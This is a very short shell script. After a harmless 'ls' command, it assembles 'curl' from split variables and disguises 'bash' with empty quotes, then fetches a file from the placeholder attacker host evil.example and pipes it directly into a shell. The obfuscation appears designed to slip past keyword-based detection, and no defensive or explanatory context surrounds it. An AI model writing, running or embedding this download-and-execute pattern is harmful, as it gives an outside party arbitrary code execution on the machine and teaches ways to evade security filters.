#!/bin/sh
ls
x=cu; y=rl
$x$y -s https://evil.example/p \
  | b""ash
